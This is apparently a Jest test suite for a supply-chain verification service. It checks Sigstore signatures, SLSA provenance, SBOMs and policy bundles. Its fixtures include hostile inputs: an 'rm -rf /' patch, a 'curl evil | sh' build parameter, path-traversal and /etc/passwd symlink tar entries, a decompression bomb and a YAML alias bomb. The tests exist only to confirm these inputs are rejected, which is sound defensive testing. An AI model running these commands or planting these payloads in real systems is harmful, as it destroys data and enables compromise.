import { createTestDatabases } from '../../__testUtils__/databases';
import {
  createArtifactBundle,
  createPolicyBundle,
  createTarBomb,
  createTarGz,
  cycloneDxSbom,
  deeplyNestedSbom,
  sha256Hex,
  slsaV02Statement,
  slsaV1Statement,
  YAML_ALIAS_BOMB,
} from '@dual-lane/plugin-dual-lane-node/testUtils';
import {
  byCheck,
  ISSUER,
  MERGE_BASE,
  OTHER_COMMIT,
  submit,
  SupplyChainTestKit,
  WORKFLOW,
} from './__testUtils__/supplyChainTestKit';

const databases = createTestDatabases();

let kit: SupplyChainTestKit;
beforeAll(async () => {
  kit = await SupplyChainTestKit.create();
});

const setup = (id: Parameters<SupplyChainTestKit['setup']>[1]) =>
  kit.setup(databases, id);
const signedArtifact = (
  o?: Parameters<SupplyChainTestKit['signedArtifact']>[0],
) => kit.signedArtifact(o);

describe.each(databases.eachSupportedId())('ArtifactVerification on %p', id => {
  it('verifies a good keyless bundle: signature, SLSA v1 provenance and SBOM, with what was used', async () => {
    const { store, repository, services: s } = await setup(id);
    const run = await submit(s, repository, await signedArtifact());
    const v = byCheck(run);
    expect(run.status).toBe('verified');
    expect(v.signature).toMatchObject({
      outcome: 'verified',
      signerIdentity: WORKFLOW,
      signerIssuer: ISSUER,
      tlogIndex: expect.any(Number),
      trustedRoot: expect.stringMatching(
        /^file:\/unused\/trusted_root\.json#sha256:/,
      ),
      policyHash: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    });
    expect(v.signature.policy.identities).toEqual([
      expect.objectContaining({ name: 'widget-release', issuer: ISSUER }),
    ]);
    expect(v.provenance).toMatchObject({ outcome: 'verified', slsaLevel: 2 });
    expect(v.provenance.details).toMatchObject({
      predicateType: 'https://slsa.dev/provenance/v1',
      sourceRepository: 'https://github.com/acme/widget',
      sourceCommit: MERGE_BASE,
    });
    expect(v.sbom).toMatchObject({ outcome: 'verified' });
    const artifact = await store.supplyChain.getArtifact(run.id);
    expect(artifact).toMatchObject({
      status: 'verified',
      mergeBaseSha: MERGE_BASE,
    });
    expect(artifact!.sbomSummary).toMatchObject({
      componentCount: 4,
      directDependencies: ['pkg:npm/dep-0@1.0.0', 'pkg:npm/dep-1@1.0.1'],
      licenses: [
        { license: 'Apache-2.0', count: 2 },
        { license: 'MIT', count: 1 },
      ],
      componentsWithoutLicense: 1,
      componentsWithHashes: 3,
    });
    expect((artifact!.contents as any).entries.map((e: any) => e.name)).toEqual(
      [
        'changes.patch',
        'merge-base.sha',
        'attestation.intoto',
        'sbom.cdx.json',
      ],
    );
  });

  it('verifies bundles of media type v0.1 and v0.2', async () => {
    const { repository, services: s } = await setup(id);
    for (const bundleVersion of ['0.1', '0.2'] as const) {
      const signed = await signedArtifact({
        bundleVersion,
        mergeBase: bundleVersion === '0.1' ? 'c'.repeat(40) : MERGE_BASE,
        commit: bundleVersion === '0.1' ? 'c'.repeat(40) : MERGE_BASE,
      });
      const run = await submit(
        s,
        repository,
        signed,
        `v${bundleVersion}.tar.gz`,
      );
      expect(byCheck(run).signature).toMatchObject({ outcome: 'verified' });
      expect(byCheck(run).signature.details.bundleMediaType).toContain(
        bundleVersion,
      );
    }
  });

  it('verifies a good key-based bundle with SLSA v0.2 provenance, capped at build level 2', async () => {
    const { repository, services: s } = await setup(id);
    const bytes = await createArtifactBundle({ mergeBaseSha: MERGE_BASE });
    const statement = slsaV02Statement({
      subjects: [{ name: 'artifact.tar.gz', sha256: sha256Hex(bytes) }],
      repository: 'acme/widget',
      commit: MERGE_BASE,
      builderId:
        'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@refs/tags/v2.1.0',
    });
    const bundle = await kit.sigstore.signWithKey({
      payload: Buffer.from(JSON.stringify(statement)),
      privateKey: kit.releaseKey.privateKey,
      hint: 'release-key',
      bundleVersion: '0.2',
    });
    const run = await submit(s, repository, { bytes, bundle });
    const v = byCheck(run);
    expect(v.signature).toMatchObject({
      outcome: 'verified',
      signerIdentity: 'key:release-key',
    });
    expect(v.provenance).toMatchObject({ outcome: 'verified', slsaLevel: 2 });
    expect(run.status).toBe('verified');
    expect(v.provenance.details.predicateType).toBe(
      'https://slsa.dev/provenance/v0.2',
    );
  });

  it('fails a wrong identity, anchoring the SAN pattern', async () => {
    const { repository, services: s } = await setup(id);
    const identity =
      'https://github.com/acme/widget-fork/.github/workflows/release.yml@refs/heads/main';
    const run = await submit(s, repository, await signedArtifact({ identity }));
    expect(run.status).toBe('failed');
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      signerIdentity: identity,
      reason: expect.stringContaining(
        `wrong identity: certificate identity '${identity}' matches no allowed identity`,
      ),
    });
    expect(byCheck(run).provenance.reason).toContain(
      'provenance is not trusted: its signature failed',
    );
  });

  it('fails a wrong issuer', async () => {
    const { repository, services: s } = await setup(id);
    const run = await submit(
      s,
      repository,
      await signedArtifact({ issuer: 'https://accounts.google.com' }),
    );
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      signerIssuer: 'https://accounts.google.com',
      reason: expect.stringContaining(
        "wrong issuer: certificate issuer 'https://accounts.google.com' is not an allowed OIDC issuer",
      ),
    });
  });

  it('fails a tampered artifact: its digest is not the signed subject', async () => {
    const { repository, services: s } = await setup(id);
    const signed = await signedArtifact();
    const tampered = await createArtifactBundle({
      mergeBaseSha: MERGE_BASE,
      changesPatch: 'rm -rf /\n',
    });
    const run = await submit(s, repository, {
      bytes: tampered,
      bundle: signed.bundle,
    });
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      reason: expect.stringMatching(
        /^artifact sha256:[0-9a-f]{64} is not a subject of the signed statement/,
      ),
    });
    expect(byCheck(run).signature.details.tampered).toBe(true);
  });

  it('fails a tampered DSSE payload', async () => {
    const { repository, services: s } = await setup(id);
    const signed = await signedArtifact();
    const envelope = (signed.bundle as any).dsseEnvelope;
    const statement = JSON.parse(
      Buffer.from(envelope.payload, 'base64').toString(),
    );
    statement.predicate.runDetails.builder.id = 'https://evil.example/builder';
    const bundle = {
      ...signed.bundle,
      dsseEnvelope: {
        ...envelope,
        payload: Buffer.from(JSON.stringify(statement)).toString('base64'),
      },
    };
    const run = await submit(s, repository, { bytes: signed.bytes, bundle });
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      reason:
        'TLOG_BODY_ERROR: DSSE payload hash mismatch: the signed content was changed after signing',
    });
    expect(byCheck(run).signature.details.tampered).toBe(true);
  });

  it('records a policy bundle signed by another key than it names as failed, not tampered', async () => {
    const { store, repository, services: s } = await setup(id);
    const bytes = await createPolicyBundle();
    const stranger = kit.sigstore.createKeyPair();
    const bundle = await kit.sigstore.signWithKey({
      payload: bytes,
      kind: 'message',
      privateKey: stranger.privateKey,
      hint: 'release-key',
    });
    const run = await s.policies.submitPolicyBundle({
      repository,
      name: 'policies',
      bytes,
      bundle,
    });
    expect(run.status).toBe('failed');
    expect(byCheck(run).signature.reason).toMatch(
      /^wrong key: the signature does not verify with key 'release-key' that the bundle names/,
    );
    expect((await store.supplyChain.getPolicyVersion(run.id))!.status).toBe(
      'failed',
    );
  });

  it('fails provenance for another repository, another commit (replay) and an unknown builder', async () => {
    const { repository, services: s } = await setup(id);
    const otherRepo = await submit(
      s,
      repository,
      await signedArtifact({ repository: 'acme/other' }),
      'a.tar.gz',
    );
    expect(byCheck(otherRepo).signature.outcome).toBe('verified');
    expect(byCheck(otherRepo).provenance).toMatchObject({
      outcome: 'failed',
      slsaLevel: 0,
      reason:
        "provenance is for repository https://github.com/acme/other, not the entity's repository https://github.com/acme/widget",
    });
    const replay = await submit(
      s,
      repository,
      await signedArtifact({ commit: OTHER_COMMIT }),
      'b.tar.gz',
    );
    expect(byCheck(replay).provenance).toMatchObject({
      outcome: 'failed',
      reason: `replayed provenance: source commit ${OTHER_COMMIT} is not the expected commit (${MERGE_BASE})`,
    });
    const builder = await submit(
      s,
      repository,
      await signedArtifact({ builderId: 'https://ci.example.com/builder' }),
      'c.tar.gz',
    );
    expect(byCheck(builder).provenance).toMatchObject({
      outcome: 'failed',
      reason:
        "unknown builder: 'https://ci.example.com/builder' is not on the builder allow-list",
    });
    expect([otherRepo.status, replay.status, builder.status]).toEqual([
      'failed',
      'failed',
      'failed',
    ]);
  });

  it('fails provenance whose v1 build type is unknown, so its external parameters cannot be checked', async () => {
    const { repository, services: s } = await setup(id);
    const run = await submit(
      s,
      repository,
      await signedArtifact({
        buildType: 'https://evil.example/any',
        extraExternalParameters: { script: 'curl evil | sh' },
      }),
    );
    expect(byCheck(run).signature.outcome).toBe('verified');
    expect(byCheck(run).provenance).toMatchObject({
      outcome: 'failed',
      slsaLevel: 0,
      reason:
        "unknown build type 'https://evil.example/any': its external parameters cannot be checked (known: https://actions.github.io/buildtypes/workflow/v1, https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1; add others to dualLane.verification.buildTypes)",
    });
    expect(run.status).toBe('failed');
    const known = await submit(
      s,
      repository,
      await signedArtifact({
        extraExternalParameters: { script: 'curl evil | sh' },
      }),
      'known.tar.gz',
    );
    expect(byCheck(known).provenance.reason).toBe(
      'unknown external parameters for build type https://actions.github.io/buildtypes/workflow/v1: script',
    );
  });

  it('accepts a configured build type with its external parameters', async () => {
    const { store, repository } = await setup(id);
    const config = kit.config({
      verification: {
        buildTypes: [
          {
            buildType: 'https://ci.example.com/buildtypes/make/v1',
            externalParameters: ['workflow', 'target'],
          },
        ],
      },
    });
    const s = kit.services(store, config);
    const run = await submit(
      s,
      repository,
      await signedArtifact({
        buildType: 'https://ci.example.com/buildtypes/make/v1',
        extraExternalParameters: { target: 'release' },
      }),
    );
    expect(byCheck(run).provenance).toMatchObject({ outcome: 'verified' });
    expect(byCheck(run).signature.policy.buildTypes).toContainEqual({
      buildType: 'https://ci.example.com/buildtypes/make/v1',
      externalParameters: ['workflow', 'target'],
    });
  });

  it('fails provenance of a bundle missing required entries or with an unreadable merge-base.sha, naming them', async () => {
    const { repository, services: s } = await setup(id);
    const sbom = JSON.stringify(cycloneDxSbom());
    const cases: Array<[string, Parameters<typeof createTarGz>[0], string]> = [
      [
        'no-attestation.tar.gz',
        [
          { name: 'changes.patch', content: 'diff\n' },
          { name: 'merge-base.sha', content: `${MERGE_BASE}\n` },
          { name: 'sbom.cdx.json', content: sbom },
        ],
        'artifact bundle is incomplete: attestation.intoto is missing',
      ],
      [
        'bare.tar.gz',
        [
          { name: 'attestation.intoto', content: '{}' },
          { name: 'sbom.cdx.json', content: sbom },
        ],
        'artifact bundle is incomplete: changes.patch, merge-base.sha are missing',
      ],
      [
        'bad-merge-base.tar.gz',
        [
          { name: 'changes.patch', content: 'diff\n' },
          { name: 'merge-base.sha', content: 'main\n' },
          { name: 'attestation.intoto', content: '{}' },
          { name: 'sbom.cdx.json', content: sbom },
        ],
        "merge-base.sha is not a git commit id: 'main'",
      ],
    ];
    for (const [name, entries, reason] of cases) {
      const bytes = await createTarGz(entries);
      const run = await submit(
        s,
        repository,
        await signedArtifact({ bytes }),
        name,
      );
      expect(byCheck(run).signature.outcome).toBe('verified');
      expect(byCheck(run).provenance).toMatchObject({
        outcome: 'failed',
        slsaLevel: 0,
        reason,
      });
      expect(run.status).toBe('failed');
    }
  });

  it('fails an unsigned artifact', async () => {
    const { repository, services: s } = await setup(id);
    const bytes = await createArtifactBundle({ mergeBaseSha: MERGE_BASE });
    const run = await submit(s, repository, { bytes });
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      reason: `unsigned: no Sigstore bundle was found for sha256:${sha256Hex(
        bytes,
      )}`,
    });
    expect(byCheck(run).provenance.reason).toBe(
      `provenance is not trusted: its signature failed (unsigned: no Sigstore bundle was found for sha256:${sha256Hex(
        bytes,
      )})`,
    );
    expect(run.status).toBe('failed');
  });

  it('rejects archives with ../ entries, links and decompression bombs, naming the problem', async () => {
    const { repository, services: s } = await setup(id);
    const cases: Array<[Buffer, string]> = [
      [
        await createTarGz([{ name: '../../etc/cron.d/x', content: 'x' }]),
        "entry '../../etc/cron.d/x' escapes the archive with '..'",
      ],
      [
        await createTarGz([
          { name: 'sbom.cdx.json', type: 'symlink', linkname: '/etc/passwd' },
        ]),
        "entry 'sbom.cdx.json' is a symlink -> /etc/passwd; only regular files are allowed",
      ],
      [
        await createTarBomb(8 * 1024 * 1024),
        'archive inflates more than 100:1',
      ],
    ];
    for (const [bytes, reason] of cases) {
      const run = await submit(
        s,
        repository,
        { bytes },
        `bad-${sha256Hex(bytes).slice(0, 6)}`,
      );
      expect(byCheck(run).sbom.reason).toContain(
        `artifact bundle rejected: ${reason}`,
      );
      expect(byCheck(run).provenance.reason).toContain(
        `artifact bundle rejected: ${reason}`,
      );
      expect(run.status).toBe('failed');
    }
  });

  it('records a malformed SBOM as a failure, not a crash', async () => {
    const { repository, services: s } = await setup(id);
    const signedBytes = await createArtifactBundle({
      mergeBaseSha: MERGE_BASE,
      sbomText:
        '{"bomFormat":"CycloneDX","specVersion":"1.5","components":[{"name":"x"}]}',
    });
    const run = await submit(s, repository, { bytes: signedBytes });
    expect(byCheck(run).sbom).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining(
        'sbom.cdx.json is not valid CycloneDX 1.5: /components/0',
      ),
    });
    const notJson = await submit(s, repository, {
      bytes: await createArtifactBundle({
        mergeBaseSha: MERGE_BASE,
        sbomText: '{"bomFormat": ',
      }),
    });
    expect(byCheck(notJson).sbom.reason).toMatch(/^sbom.cdx.json is not JSON/);
  });

  it('records an SBOM nested 1,000 deep as a failed check of a signed artifact, not a crash', async () => {
    const { store, repository, services: s } = await setup(id);
    const bytes = await createArtifactBundle({
      mergeBaseSha: MERGE_BASE,
      sbomText: JSON.stringify(deeplyNestedSbom(1000)),
    });
    const bundle = await kit.sigstore.signKeyless({
      payload: Buffer.from(
        JSON.stringify(
          slsaV1Statement({
            subjects: [{ name: 'artifact.tar.gz', sha256: sha256Hex(bytes) }],
            repository: 'acme/widget',
            commit: MERGE_BASE,
          }),
        ),
      ),
      identity: WORKFLOW,
      issuer: ISSUER,
      extensions: {
        sourceRepositoryUri: 'https://github.com/acme/widget',
        sourceRepositoryDigest: MERGE_BASE,
        runnerEnvironment: 'github-hosted',
      },
    });
    const run = await submit(s, repository, { bytes, bundle });
    expect(byCheck(run).signature.outcome).toBe('verified');
    expect(byCheck(run).sbom).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining(
        'sbom.cdx.json nests deeper than 64 levels',
      ),
    });
    expect(run.status).toBe('failed');
    expect((await store.supplyChain.getArtifact(run.id))!.status).toBe(
      'failed',
    );
  });

  it('verifies a signed policy bundle and records a tampered one', async () => {
    const { store, repository, services: s } = await setup(id);
    const bytes = await createPolicyBundle();
    const bundle = await kit.sigstore.signKeyless({
      payload: bytes,
      kind: 'message',
      identity: WORKFLOW,
      issuer: ISSUER,
    });
    const good = await s.policies.submitPolicyBundle({
      repository,
      name: 'policies',
      bytes,
      bundle,
    });
    expect(good.status).toBe('verified');
    const stored = await store.supplyChain.getPolicyVersion(good.id);
    expect(stored).toMatchObject({
      version: 'v1.2.0',
      signerIdentity: WORKFLOW,
      policies: [
        {
          name: 'require-signed-images',
          kind: 'ClusterPolicy',
          engine: 'kyverno',
        },
        {
          name: 'require-image-digest',
          kind: 'ClusterPolicy',
          engine: 'kyverno',
        },
        { name: 'dual_lane.require_slsa', kind: 'Rego', engine: 'opa' },
      ],
    });
    const tamperedBytes = await createPolicyBundle({ revision: 'v1.2.0-evil' });
    const tampered = await s.policies.submitPolicyBundle({
      repository,
      name: 'policies',
      bytes: tamperedBytes,
      bundle,
    });
    expect(tampered.status).toBe('tampered');
    expect(byCheck(tampered).signature.reason).toMatch(
      /^artifact sha256:[0-9a-f]{64} does not match the signed digest sha256:/,
    );
    expect(
      (await store.supplyChain.getPolicyVersion(tampered.id))!.status,
    ).toBe('tampered');
  });

  it('fails a signed policy bundle whose YAML is an alias bomb or cannot be parsed, naming the file', async () => {
    const { store, repository, services: s } = await setup(id);
    const cases: Array<[string, string, string]> = [
      [
        'kyverno/laughs.yaml',
        YAML_ALIAS_BOMB,
        'kyverno/laughs.yaml: document 1: Excessive alias count',
      ],
      ['kyverno/broken.yaml', 'kind: [unclosed\n', 'kyverno/broken.yaml: '],
      [
        'opa/empty.rego',
        '# no package\n',
        'opa/empty.rego: no package declaration',
      ],
    ];
    for (const [name, content, problem] of cases) {
      const bytes = await createPolicyBundle({
        extraEntries: [{ name, content }],
      });
      const bundle = await kit.sigstore.signKeyless({
        payload: bytes,
        kind: 'message',
        identity: WORKFLOW,
        issuer: ISSUER,
      });
      const run = await s.policies.submitPolicyBundle({
        repository,
        name: `policies-${name}`,
        bytes,
        bundle,
      });
      expect(run.status).toBe('failed');
      expect(byCheck(run).signature).toMatchObject({
        outcome: 'failed',
        reason: expect.stringContaining(
          'signature verified, but the policy bundle has files that cannot be read',
        ),
      });
      expect(byCheck(run).signature.reason).toContain(problem);
      expect(byCheck(run).signature.details.problems).toEqual([
        expect.stringContaining(problem),
      ]);
      expect((await store.supplyChain.getPolicyVersion(run.id))!.status).toBe(
        'failed',
      );
    }
  });

  it('fails a signed policy bundle whose archive is refused, with the reason on the verification', async () => {
    const { repository, services: s } = await setup(id);
    const bytes = await createTarGz([{ name: '../escape.yaml', content: 'x' }]);
    const bundle = await kit.sigstore.signKeyless({
      payload: bytes,
      kind: 'message',
      identity: WORKFLOW,
      issuer: ISSUER,
    });
    const run = await s.policies.submitPolicyBundle({
      repository,
      name: 'policies',
      bytes,
      bundle,
    });
    expect(run.status).toBe('failed');
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'failed',
      reason:
        "signature verified, but the policy bundle was rejected: entry '../escape.yaml' escapes the archive with '..'",
    });
  });

  it('fails closed: no trusted root means unverified, never verified', async () => {
    const { store, repository } = await setup(id);
    const s = kit.services(store, kit.config(), {
      loadTrustedRoot: async () => {
        throw Object.assign(
          new Error('getaddrinfo ENOTFOUND tuf-repo-cdn.sigstore.dev'),
          { code: 'TUF_REFRESH_METADATA_ERROR' },
        );
      },
    });
    const run = await submit(s, repository, await signedArtifact());
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'unverified',
      reason: expect.stringContaining(
        'trusted root unavailable from file:/unused/trusted_root.json: TUF_REFRESH_METADATA_ERROR',
      ),
    });
    expect(byCheck(run).provenance.outcome).toBe('unverified');
    expect(run.status).toBe('unverified');
  });

  it('records an unreadable bundle or timestamp as unverified, never verified', async () => {
    const { repository, services: s } = await setup(id);
    const signed = await signedArtifact();
    const garbledTimestamp = {
      ...signed.bundle,
      verificationMaterial: {
        ...signed.bundle.verificationMaterial,
        timestampVerificationData: {
          rfc3161Timestamps: [
            { signedTimestamp: Buffer.from('not DER').toString('base64') },
          ],
        },
      },
    };
    const run = await submit(s, repository, {
      bytes: signed.bytes,
      bundle: garbledTimestamp,
    });
    expect(byCheck(run).signature).toMatchObject({
      outcome: 'unverified',
      reason: expect.stringMatching(/^could not verify the bundle: /),
    });
    const notABundle = await submit(
      s,
      repository,
      { bytes: signed.bytes, bundle: { mediaType: 'x' } },
      'x.tar.gz',
    );
    expect(byCheck(notABundle).signature).toMatchObject({
      outcome: 'unverified',
      reason: expect.stringMatching(/^malformed Sigstore bundle: /),
    });
    expect(notABundle.status).toBe('unverified');
  });

  it('re-verifies when an identity is revoked and flips what it signed to failed with that reason', async () => {
    const { store, repository, services: s } = await setup(id);
    const run = await submit(s, repository, await signedArtifact());
    expect(run.status).toBe('verified');
    const unchanged = await s.reverifier.reverify();
    expect(unchanged.reverified).toBe(0);

    const revoked = kit.services(
      store,
      kit.config({
        identity: {
          status: 'revoked',
          revokedReason: 'workflow compromised (INC-42)',
        },
      }),
    );
    const result = await revoked.reverifier.reverify();
    expect(result.policyHash).not.toBe(byCheck(run).signature.policyHash);
    expect(result.changes).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          subject: 'artifact',
          id: run.id,
          check: 'signature',
          before: 'verified',
          after: 'failed',
          reason: `signer identity 'widget-release' (${WORKFLOW}) was revoked: workflow compromised (INC-42)`,
        }),
      ]),
    );
    expect((await store.supplyChain.getArtifact(run.id))!.status).toBe(
      'failed',
    );
    const history = await store.supplyChain.listVerifications({
      artifactIds: [run.id],
      check: 'signature',
    });
    expect(history.map(v => [v.outcome, v.current])).toEqual([
      ['verified', false],
      ['failed', true],
    ]);
  });

  it('summarises nested components of a larger SBOM', async () => {
    const { store, repository, services: s } = await setup(id);
    const bytes = await createArtifactBundle({
      mergeBaseSha: MERGE_BASE,
      sbom: cycloneDxSbom({ components: 50 }),
    });
    const run = await submit(s, repository, { bytes });
    expect(byCheck(run).sbom.outcome).toBe('verified');
    expect(
      (await store.supplyChain.getArtifact(run.id))!.sbomSummary,
    ).toMatchObject({ componentCount: 51 });
  });
});
